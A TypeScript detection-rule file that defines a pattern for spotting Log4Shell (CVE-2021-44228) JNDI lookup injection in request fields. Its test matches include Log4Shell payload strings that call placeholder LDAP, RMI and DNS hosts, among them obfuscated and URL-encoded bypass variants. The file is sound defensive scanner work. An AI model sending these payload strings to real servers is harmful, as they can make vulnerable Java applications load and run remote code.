/** Lookups of Log4j. */
import { defineRules, inField } from '../threat-rule.ts';

export const log4shellRules = defineRules([
  {
    id: 'LOG4J-001',
    class: 'log4shell',
    severity: 'critical',
    score: 9,
    title: 'A lookup of Log4j, plain or put together from others.',
    refs: ['CWE-917', 'T1190', 'CVE-2021-44228', 'CVE-2021-45046'],
    literals: ['${', '$\\{', '${${', 'jndi:', 'jnd${'],
    pattern:
      /\$\\?\{(?:[^}\s]{0,60}?jndi|jnd\$|\s{0,4}(?:lower|upper|env|sys|java|date|ctx|bundle|main|map|sd|marker|k8s|docker|web|spring|base64|log4j|event)\s{0,2}:|[^}]{0,16}::?-|\$\\?\{)|jndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?):|jnd\$\\?\{/y,
    matches: [
      ...inField('user_agent', '${jndi:ldap://a.example/x}', '${${lower:j}ndi:ldap://x}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x}'),
      ...inField('query', 'q=${${env:FOO:-j}ndi:dns://x}', 'q=$%257Bjndi:ldap://x%257D', 'q=${jnd${upper:%C4%B1}:x}', 'q=$\\u007Bjndi:ldap://x}'),
    ],
    honest: inField('query', 'q=jndi+explained', 'q=${name}', 'q=${price:usd}'.replace(':usd', '')),
  },
]);
